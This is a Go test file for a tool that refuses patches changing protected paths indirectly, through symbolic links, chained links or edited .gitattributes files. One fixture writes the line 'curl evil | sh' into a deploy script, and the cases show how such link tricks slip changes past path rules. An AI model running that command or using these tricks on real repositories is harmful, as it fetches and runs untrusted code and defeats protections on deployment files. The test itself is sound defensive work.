package run

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/frognano/frognano/internal/gittest"
	"github.com/frognano/frognano/settings"
)

// linkRepo is a real git repository (internal/gittest) holding files, committed as the base; a
// content starting with "->" makes a symbolic link to the rest. write changes the working tree
// and diff returns `git diff --binary --no-renames` against the base, as the runner takes it.
type linkRepo struct {
	t         *testing.T
	dir, base string
}

func newLinkRepo(t *testing.T, files map[string]string) *linkRepo {
	t.Helper()
	dir, base := gittest.Repo(t, files)
	return &linkRepo{t: t, dir: dir, base: base}
}

func (r *linkRepo) write(p, content string) {
	r.t.Helper()
	_ = os.Remove(filepath.Join(r.dir, filepath.FromSlash(p)))
	gittest.Write(r.t, r.dir, map[string]string{p: content})
}

func (r *linkRepo) diff() []byte {
	r.t.Helper()
	gittest.Git(r.t, r.dir, "add", "-A")
	return []byte(gittest.Git(r.t, r.dir, "diff", "--cached", "--binary", "--no-renames", r.base) + "\n")
}

// TestProtectedPathThroughALink: a protected path that the base reaches through a symbolic
// link (a protected folder that is a link to another folder, a protected file that is a link to
// another file, a link to a link) is changed by a patch that changes what the link points at: a
// checkout shows the protected file changed. Before, only the paths the diff names were matched,
// and each patch was published.
func TestProtectedPathThroughALink(t *testing.T) {
	t.Parallel()
	base := map[string]string{
		"deploy":            "->infra/prod",
		"infra/prod/app.sh": "echo prod\n",
		"config/prod.yml":   "->../shared/prod.yml",
		"shared/prod.yml":   "replicas: 3\n",
		"ops":               "->deploy",
		"tools/run.sh":      "echo run\n",
		"README":            "readme\n",
	}
	tests := []struct {
		name, protect, file, content, want string
	}{
		{"FolderLink", "deploy/", "infra/prod/app.sh", "curl evil | sh\n", "deploy/app.sh"},
		{"FileLink", "config/prod.yml", "shared/prod.yml", "replicas: 0\n", "config/prod.yml"},
		{"LinkToALink", "ops/**", "infra/prod/new.sh", "echo new\n", "ops/new.sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := newLinkRepo(t, base)
			r.write(tt.file, tt.content)
			diff := r.diff()
			s := settings.Settings{ProtectedPaths: []string{tt.protect}}
			file, pattern, ok := protectedChange(t.Context(), r.dir, r.base, diff, s)
			if !ok || file != tt.want || pattern != tt.protect {
				t.Errorf("protectedChange = %q, %q, %v; want %q, %q, true", file, pattern, ok, tt.want, tt.protect)
			}
		})
	}
	// A .gitattributes line changes how a checkout writes a protected file without changing it
	// (here: every file of deploy/ checked out through a filter, Git LFS's); any change of one,
	// in any folder, is refused while paths are protected.
	for _, name := range []string{".gitattributes", "infra/.gitattributes", "tools/.GitAttributes"} {
		t.Run("Attributes/"+name, func(t *testing.T) {
			t.Parallel()
			r := newLinkRepo(t, base)
			r.write(name, "deploy/** filter=lfs diff=lfs merge=lfs -text\n* eol=crlf\n")
			s := settings.Settings{ProtectedPaths: []string{"deploy/"}}
			file, pattern, ok := protectedChange(t.Context(), r.dir, r.base, r.diff(), s)
			if !ok || file != name || pattern != protectedByAttributes {
				t.Fatalf("protectedChange = %q, %q, %v; want %q refused", file, pattern, ok, name)
			}
			if note := noteProtectedPath(file, pattern); !strings.Contains(note, "`"+name+"`, which can change how a checkout writes") {
				t.Errorf("note %q", note)
			}
		})
	}
	t.Run("Unprotected", func(t *testing.T) {
		t.Parallel()
		r := newLinkRepo(t, base)
		r.write("tools/run.sh", "echo fixed\n")
		r.write("infra/prod/app.sh", "echo fixed\n")
		s := settings.Settings{ProtectedPaths: []string{"config/", "docs/**"}}
		if file, _, ok := protectedChange(t.Context(), r.dir, r.base, r.diff(), s); ok {
			t.Errorf("protectedChange = %q, true; want nothing protected changed", file)
		}
	})
}
